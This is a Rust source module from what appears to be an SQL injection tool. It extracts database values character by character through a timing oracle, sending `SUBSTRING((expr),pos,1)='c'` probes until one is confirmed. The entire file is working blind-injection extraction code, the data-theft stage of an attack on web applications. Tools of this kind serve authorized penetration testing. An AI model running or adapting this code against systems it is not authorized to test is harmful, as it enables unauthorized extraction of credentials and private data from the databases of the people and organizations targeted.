//! Character-by-character string extraction over a timing oracle
//!
//! Each position is resolved by scanning [`CHARSET`] in order with
//! `SUBSTRING((<expr>),<pos>,1)='<c>'` until the oracle answers true. A
//! position with no match ends the string.
//!
//! The single quote is not in the alphabet and is never escaped, so values
//! containing one stop just before it.

use crate::core::settings::CHARSET;
use crate::reporting::{Event, Sink};
use crate::sqli::oracle::Oracle;

/// Outcome of one extraction run
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Extraction {
    pub value: String,
    /// false when `max_length` was reached before the string ended
    pub complete: bool,
}

pub fn char_condition(expression: &str, position: usize, ch: char) -> String {
    format!("SUBSTRING(({}),{},1)='{}'", expression, position, ch)
}

/// First alphabet character the oracle confirms at `position`
async fn find_char<O: Oracle + ?Sized>(
    oracle: &O,
    expression: &str,
    position: usize,
) -> Option<char> {
    for ch in CHARSET.chars() {
        if oracle.probe(&char_condition(expression, position, ch)).await {
            return Some(ch);
        }
    }
    None
}

pub async fn extract_value<O: Oracle + ?Sized>(
    oracle: &O,
    expression: &str,
    max_length: usize,
    sink: &dyn Sink,
) -> Extraction {
    let mut result = String::new();

    for position in 1..=max_length {
        match find_char(oracle, expression, position).await {
            // a space after content means the value is over; without this the
            // padding of fixed-width results matches forever
            Some(' ') if !result.is_empty() => {
                return finish(result, true);
            }
            Some(ch) => {
                result.push(ch);
                sink.render(&Event::CharFound {
                    position,
                    ch,
                    so_far: result.clone(),
                });
            }
            None => return finish(result, true),
        }
    }

    tracing::warn!(
        "[EXTRACT] extraction incomplete after {} characters: {}",
        max_length,
        expression
    );
    finish(result, false)
}

fn finish(result: String, complete: bool) -> Extraction {
    Extraction {
        value: result.trim().to_string(),
        complete,
    }
}

/// Recovers the string value of a scalar SQL expression.
///
/// Never longer than `max_length`; an unfinished value is returned as is.
pub async fn extract_string<O: Oracle + ?Sized>(
    oracle: &O,
    expression: &str,
    max_length: usize,
    sink: &dyn Sink,
) -> String {
    extract_value(oracle, expression, max_length, sink).await.value
}
